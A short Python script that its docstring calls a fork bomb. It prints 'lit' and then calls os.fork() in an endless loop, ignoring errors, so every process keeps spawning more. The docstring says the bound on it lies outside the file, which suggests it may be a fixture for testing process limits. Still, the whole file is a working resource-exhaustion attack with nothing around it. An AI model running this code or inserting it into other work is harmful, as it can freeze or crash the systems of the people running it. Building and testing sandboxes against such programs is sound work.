"""A fork bomb: every process forks for ever. What bounds it is not in here."""

import contextlib
import os

print("lit", flush=True)
while True:
    with contextlib.suppress(OSError):
        os.fork()
